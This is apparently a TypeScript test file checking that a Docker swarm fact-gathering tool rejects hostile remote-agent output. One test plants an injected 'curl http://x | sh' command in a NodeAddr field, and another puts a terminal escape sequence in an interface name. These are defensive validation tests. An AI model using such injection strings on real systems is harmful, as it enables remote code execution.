// Facts read through a hostile agent: command output that does not fit makes the host an error.
import test from 'ava';
import { InvalidDataError } from '../../src/agent/invalid-data.js';
import type { AgentCommand } from '../../src/agent/protocol.js';
import { RemoteAgent } from '../../src/agent/remote-agent.js';
import { gatherFacts } from '../../src/run/facts.js';
import { gatherNetFacts } from '../../src/run/net-facts.js';
import { fakeStream } from '../agent/fake-stream.js';
import { fixture } from '../fixtures/load.js';

const READY = { ev: 'ready', pid: 7, uid: 0, hostname: 'b2', python: '3.11.2', dockerSocket: true };

async function agentAnswering(answer: (c: AgentCommand) => unknown[]): Promise<{ agent: RemoteAgent; closed: () => boolean }> {
  const { stream, out, closed } = fakeStream(answer);
  out.write(`${JSON.stringify(READY)}\n`);
  const { agent } = await RemoteAgent.start('b2', stream, 10_000, 5_000);
  return { agent, closed };
}

test('a docker info whose NodeAddr carries shell text makes the host an error and sends its agent away', async (t) => {
  const info = JSON.parse(fixture('lab/docker-info.manager.json'));
  info.Swarm.NodeAddr = '10.9.9.9; curl http://x | sh #';
  const { agent, closed } = await agentAnswering((c) => (c.op === 'exec' ? [{ ev: 'exec', id: c.id, code: 0, stdout: JSON.stringify(info), stderr: '', error: null }] : []));
  const error = await t.throwsAsync(gatherFacts(agent, 5_000, true), { instanceOf: InvalidDataError });
  t.regex(error?.message ?? '', /^b2: the agent sent invalid data: docker info Swarm\.NodeAddr "10\.9\.9\.9; curl http:\/\/x \| sh #" is not an IP address/);
  t.is(agent.invalidData, error);
  t.true(closed());
});

test('a non-numeric data-path port from a host is invalid data, never a port to probe', async (t) => {
  const info = JSON.parse(fixture('lab/docker-info.manager.json'));
  info.Swarm.Cluster.DataPathPort = 'x';
  const { agent } = await agentAnswering((c) => (c.op === 'exec' ? [{ ev: 'exec', id: c.id, code: 0, stdout: JSON.stringify(info), stderr: '', error: null }] : []));
  await t.throwsAsync(gatherFacts(agent, 5_000, true), { instanceOf: InvalidDataError, message: /DataPathPort "x"/ });
});

test('interfaces with a hostile name make the host an error', async (t) => {
  const { agent } = await agentAnswering((c) => {
    if (c.op === 'netinfo') return [{ ev: 'netinfo', id: c.id, links: [{ ifname: 'eth0\u001b]0;owned\u0007', mtu: 1500 }], routes: [], resolv: null, error: null }];
    if (c.op === 'routes') return [{ ev: 'routes', id: c.id, routes: [] }];
    return [];
  });
  await t.throwsAsync(gatherNetFacts(agent, [], undefined, 5_000), { instanceOf: InvalidDataError, message: /^b2: the agent sent invalid data: interfaces and routes: ifname "eth0\\u001b\]0;owned\\u0007"/ });
  t.truthy(agent.invalidData);
});

/** An exec answer: the command's exit code and output. */
const execEvent = (id: string | undefined, code: number, stdout: string, stderr = '') => ({ ev: 'exec', id, code, stdout, stderr, error: null });

test('a manager asks for its overlays, services and nodes at once, not one listing after another', async (t) => {
  const info = fixture('lab/docker-info.manager.json');
  const asked: string[] = [];
  const held: string[] = [];
  const { agent } = await agentAnswering((c) => {
    if (c.op !== 'exec') return [];
    const argv = (c as { argv: string[] }).argv;
    if (argv[1] === 'info') return [execEvent(c.id, 0, info)];
    asked.push(argv.slice(0, 3).join(' '));
    // Nothing is answered until all three listings have been asked for: one after another, the
    // first would wait for ever (here: its timeout).
    held.push(c.id);
    return held.length === 3 ? held.map((id) => execEvent(id, 0, '')) : [];
  });
  const facts = await gatherFacts(agent, 1_000, true);
  t.deepEqual(asked.sort(), ['docker network ls', 'docker node ls', 'docker service ls']);
  t.deepEqual(facts.overlays, []);
  t.deepEqual(facts.nodes, []);
  t.is(facts.overlayError, undefined);
});

test('a manager whose service listing fails keeps its overlays and nodes, and says why its VIPs are missing', async (t) => {
  const info = fixture('lab/docker-info.manager.json');
  const { agent } = await agentAnswering((c) => {
    if (c.op !== 'exec') return [];
    const argv = (c as { argv: string[] }).argv;
    if (argv[1] === 'info') return [execEvent(c.id, 0, info)];
    if (argv[1] === 'service') return [execEvent(c.id, 1, '', 'Error response from daemon: rpc error: code = DeadlineExceeded')];
    return [execEvent(c.id, 0, '')];
  });
  const facts = await gatherFacts(agent, 1_000, true);
  t.deepEqual(facts.overlays, []);
  t.deepEqual(facts.nodes, []);
  t.is(facts.vips, undefined);
  t.regex(facts.overlayError ?? '', /^docker service ls: Error response from daemon: rpc error/);
});
